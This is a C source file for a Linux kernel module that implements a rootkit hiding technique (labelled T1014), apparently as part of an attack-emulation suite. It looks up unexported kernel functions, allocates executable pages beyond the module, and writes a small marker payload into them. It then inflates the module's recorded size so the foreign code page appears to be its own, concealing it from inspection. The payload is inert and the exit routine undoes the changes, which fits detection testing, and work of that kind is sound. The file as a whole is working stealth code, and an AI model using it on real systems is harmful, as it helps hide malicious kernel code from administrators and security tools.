// SPDX-License-Identifier: GPL-2.0-only
/* Says of itself that it is larger than it is, so that a page of code which belongs to nobody seems to be its own (T1014).
 *
 * The kernel finds modules by the same numbers, and loading is not over before init has returned: so a moment later. */
#include "attack.h"

#include <linux/workqueue.h>

static void *pages[64];
static unsigned int count, saved_size, saved_text;
static unsigned long page;

static void grow(struct work_struct *work);
static DECLARE_DELAYED_WORK(grow_work, grow);

static unsigned long base(void)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	return (unsigned long)THIS_MODULE->mem[MOD_TEXT].base;
#else
	return (unsigned long)THIS_MODULE->core_layout.base;
#endif
}

static void claim(unsigned int size, unsigned int text)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	saved_text = THIS_MODULE->mem[MOD_TEXT].size;
	THIS_MODULE->mem[MOD_TEXT].size = text;
#else
	saved_size = THIS_MODULE->core_layout.size;
	saved_text = THIS_MODULE->core_layout.text_size;
	THIS_MODULE->core_layout.size = size;
	THIS_MODULE->core_layout.text_size = text;
#endif
}

static void grow(struct work_struct *work)
{
	unsigned int size = page + PAGE_SIZE - base();

	claim(size, size);
	attack_log("hidden module=0x%lx base=0x%lx size=0x%x page=0x%lx",
		   (unsigned long)THIS_MODULE, base(), size, page);
}

static void *alloc(void)
{
	void *(*alloc_module)(unsigned long size) = (void *)attack_lookup()("module_alloc");
	void *(*alloc_execmem)(int type, size_t size);

	if (alloc_module)
		return alloc_module(PAGE_SIZE);
	/* From 6.10. Kind 0 is the code of modules. */
	alloc_execmem = (void *)attack_symbol("execmem_alloc");
	return alloc_execmem ? alloc_execmem(0, PAGE_SIZE) : NULL;
}

static void give_back(void)
{
	void (*free)(void *) = (void *)attack_lookup()("execmem_free");

	if (!free)
		free = (void *)attack_symbol("module_memfree");
	while (count && free)
		free(pages[--count]);
}

/* A page that lies behind this module. */
static int __init attack_init(void)
{
	static const u8 code[] = { 0xb8, 0x53, 0x4d, 0x41, 0x00, 0xc3 }; /* mov $…,%eax; ret */
	int (*set_x)(unsigned long at, int pages), (*set_ro)(unsigned long at, int pages);

	set_x = (void *)attack_symbol("set_memory_x");
	set_ro = (void *)attack_symbol("set_memory_ro");
	if (!set_x || !set_ro)
		return -ENOENT;
	while (count < ARRAY_SIZE(pages) && page <= base()) {
		page = (unsigned long)alloc();
		if (!page)
			break;
		pages[count++] = (void *)page;
	}
	if (page <= base()) {
		give_back();
		return -ENOMEM;
	}
	attack_write((void *)page, code, sizeof(code));
	set_ro(page, 1);
	set_x(page, 1);
	schedule_delayed_work(&grow_work, HZ / 10);
	return 0;
}

static void __exit attack_exit(void)
{
	int (*set_nx)(unsigned long at, int pages) = (void *)attack_symbol("set_memory_nx");
	int (*set_rw)(unsigned long at, int pages) = (void *)attack_symbol("set_memory_rw");

	cancel_delayed_work_sync(&grow_work);
	if (saved_text)
		claim(saved_size, saved_text);
	/* The cache of executable pages keeps its own rights. */
	if (!attack_lookup()("execmem_cache")) {
		set_nx(page, 1);
		set_rw(page, 1);
	}
	give_back();
}

module_init(attack_init);
module_exit(attack_exit);
